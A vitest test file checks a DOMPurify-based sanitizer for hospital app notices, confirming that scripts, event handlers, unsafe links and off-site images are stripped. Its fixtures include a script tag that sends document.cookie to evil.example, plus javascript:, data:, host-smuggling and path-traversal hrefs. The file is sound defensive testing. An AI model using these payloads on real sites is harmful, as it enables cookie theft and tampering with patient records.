import { describe, expect, it } from 'vitest'
import { sanitizeNoticeHtml } from './notice-html'

/**
 * The body of notice 1039 as mocks/seed/hospital/notices.ts seeds it (the seed builder needs
 * Node, so it is copied here; the NoticeDetail story renders the seeded one itself).
 */
const notice1039 = {
  contents:
    '<p>앱을 새 버전으로 업데이트하면 가족 계정 전환이 더 빨라집니다.</p>' +
    '<img src="x" onerror="alert(\'xss\')"><script>document.location=\'https://evil.example/?c=\'+document.cookie</script>' +
    '<a href="javascript:alert(1)">업데이트 하러 가기</a>',
}

function render(html: string): HTMLElement {
  const root = document.createElement('div')
  // TrustedHTML in Chromium, which innerHTML takes (the DOM typings say string).
  root.innerHTML = sanitizeNoticeHtml(html) as string
  return root
}

describe('sanitizeNoticeHtml with DOMPurify (Chromium)', () => {
  it('renders notice 1039 harmless: no script, no handler, no javascript: link', () => {
    expect(notice1039.contents).toContain('<script>')
    const root = render(notice1039.contents)
    expect(root.querySelector('script')).toBeNull()
    expect(root.querySelectorAll('[onerror], [onclick], [onload]')).toHaveLength(0)
    expect(root.innerHTML).not.toMatch(/javascript:|onerror|document\.cookie/i)
    // The text survives; the link without its script is no longer a link.
    expect(root.textContent).toContain('업데이트 하러 가기')
    expect(root.querySelector('a[href]')).toBeNull()
    // The image from nowhere ("x") is dropped rather than loaded.
    expect(root.querySelector('img')).toBeNull()
  })

  it('keeps plain formatting, safe links and the app’s own images', () => {
    const root = render(
      '<p style="position:fixed">공지 <strong>중요</strong></p><ul><li>하나</li></ul>' +
        '<a href="https://hanbit-hospital.kr/notice">자세히</a><img src="/images/map.png"><iframe src="https://evil.example"></iframe>',
    )
    expect(root.querySelector('p')?.getAttribute('style')).toBeNull()
    expect(root.querySelector('strong')?.textContent).toBe('중요')
    expect(root.querySelector('li')?.textContent).toBe('하나')
    expect(root.querySelector('a')?.getAttribute('rel')).toBe('noopener noreferrer')
    expect(root.querySelector('img')?.getAttribute('alt')).toBe('')
    expect(root.querySelector('iframe')).toBeNull()
  })

  it("loads pictures only from the hospital's own hosts (no tracking pixel from elsewhere)", () => {
    const root = render(
      '<img src="https://www.hanbit-hospital.kr/notice/map.png" alt="약도">' +
        '<img src="https://hanbit-hospital.kr/a.png">' +
        '<img src="https://tracker.example/pixel.gif?u=1">' +
        '<img src="https://hanbit-hospital.kr.evil.example/p.gif">' +
        '<img src="http://www.hanbit-hospital.kr/plain.png">' +
        '<img src="//tracker.example/p.gif">' +
        '<img src="https://user@hanbit-hospital.kr/p.gif">' +
        // Read by the browser as //evil.example/p.gif: a backslash is a slash, a tab is dropped.
        '<img src="/\\evil.example/p.gif">' +
        '<img src="/&#9;/evil.example/p.gif">' +
        '<img src="/\t/evil.example/p.gif">',
    )
    expect([...root.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual([
      'https://www.hanbit-hospital.kr/notice/map.png',
      'https://hanbit-hospital.kr/a.png',
    ])
  })
})

describe('links in a notice (Chromium)', () => {
  const hrefs = (html: string) =>
    [...render(html).querySelectorAll('a')].map((a) => [a.textContent, a.getAttribute('href')] as const)

  it('keep their address only for a screen of the app, an https page or a phone number', () => {
    expect(
      hrefs(
        '<a href="/outpatient/appointment/step1">예약</a>' +
          '<a href="https://www.hanbit-hospital.kr/notice/flu">누리집</a>' +
          '<a href="tel:02-2290-8000">전화</a>' +
          '<a href="/hospital/notice/noticeDetail?uid=1024">공지</a>',
      ),
    ).toEqual([
      ['예약', '/outpatient/appointment/step1'],
      ['누리집', 'https://www.hanbit-hospital.kr/notice/flu'],
      ['전화', 'tel:02-2290-8000'],
      ['공지', '/hospital/notice/noticeDetail?uid=1024'],
    ])
  })

  it('lose it for anything else: scripts, data, http, other schemes, hidden hosts, crafted paths', () => {
    const hostile = [
      'javascript:alert(1)',
      'jav&#x09;ascript:alert(1)',
      'data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;',
      'http://evil.example/',
      'mailto:a@evil.example',
      'sms:01012345678',
      'intent://x#Intent;end',
      'tel:*#06#',
      '//evil.example/p',
      '/\\evil.example/p',
      '/&#9;/evil.example/p',
      '/\t/evil.example/p',
      'https://user:pw@evil.example/',
      '/nowhere/at/all',
      '/outpatient/result/..%2F..%2F..%2Fusers%2FupdatePatient%2F10000001%2F01099998888%3F/20261101/20261101',
      '#top',
      'page.html',
    ]
    const links = hrefs(hostile.map((href, i) => `<a href="${href}">링크${i}</a>`).join(''))
    expect(links).toHaveLength(hostile.length)
    for (const [text, href] of links) expect(href, text ?? '').toBeNull()
  })

  it('keeps a date, a time and an amount whole, as every text of the app does', () => {
    const root = render('<p>접수: 2026.11.18 (수) 오전 9:00 ~ 11:30, 비용 12,300 원</p>')
    expect(root.textContent).toBe('접수: 2026.11.18\u00a0(수) 오전\u00a09:00\u00a0~\u00a011:30, 비용 12,300\u00a0원')
  })
})
